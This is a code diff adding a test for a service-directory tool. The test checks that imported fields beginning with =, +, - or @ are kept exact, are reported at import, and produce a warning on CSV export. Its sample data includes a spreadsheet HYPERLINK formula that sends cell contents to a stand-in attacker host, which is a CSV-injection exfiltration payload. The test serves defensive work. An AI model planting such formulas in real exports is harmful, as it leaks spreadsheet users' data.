@@ -10,6 +10,7 @@ from pathlib import Path
 
 from peerdesk.agency.cli.common import shown
 from peerdesk.ids import new_id
+from peerdesk.interop import hsds
 from tests.agency.support import SUPERVISOR_PASSPHRASE, Agency, Run
 
 SEED = Path(__file__).resolve().parents[2] / "resources" / "directory" / "seed.json"
@@ -66,3 +67,43 @@ def test_names_and_problems_from_a_file_are_printed_escaped(
     assert dry.code == 0, dry.err
     assert not any(c in dry.out + dry.err for c in RAW)
     assert "Pantry \\x9b2J\\x9b1;1H" in dry.out
+
+
+def test_cells_a_spreadsheet_would_run_are_kept_exact_and_reported(
+    agency: Agency, run: Run, tmp_path: Path
+) -> None:
+    """Issue 18, LOW 13: ``=HYPERLINK(...)`` from an imported file went into the
+    CSV export unchanged and unannounced. The data stays exact (a quote in front
+    would change HSDS data); the import lists such cells as kept problems and the
+    export says how many there are."""
+    where = str(agency.settings.directory)
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+    services = [
+        {"id": "s1", "name": "Pantry", "status": "active", "description": formula},
+        {"id": "s2", "name": "  @SUM(1+1)", "status": "active", "url": " -2+3"},
+        {"id": "s3", "name": "Shelter", "status": "active", "minimum_age": 18,
+         "alternate_name": "- dash and text -", "description": "-"},
+    ]  # fmt: skip
+    path = tmp_path / "formulas.json"
+    path.write_text(json.dumps({"services": services}), encoding="utf-8")
+
+    published = run("directory", "import", "--dir", where, str(path))
+
+    assert published.code == 0, published.err
+    assert "4 note(s) on records that were kept:" in published.out
+    assert (
+        "formulas.json, services (id 's1'), field 'description': starts with '=': a "
+        "spreadsheet opening the CSV export would run it as a formula (kept)"
+    ) in published.out
+    assert "services (id 's2'), field 'name': starts with '@'" in published.out
+    assert "services (id 's2'), field 'url': starts with '-'" in published.out
+    assert "services (id 's3'), field 'alternate_name': starts with '-'" in published.out
+
+    exported = run("directory", "export", "--dir", where, "--format", "csv",
+                   str(tmp_path / "csv"))  # fmt: skip
+    assert exported.code == 0, exported.err
+    assert "Warning: 4 cell(s) of the CSV files start with = + - or @" in exported.out
+    again = hsds.import_path(tmp_path / "csv").dataset
+    assert {s.id: s.description for s in again.services}["s1"] == formula  # exact
+    as_json = run("directory", "export", "--dir", where, str(tmp_path / "out.json"))
+    assert as_json.code == 0 and "Warning" not in as_json.out
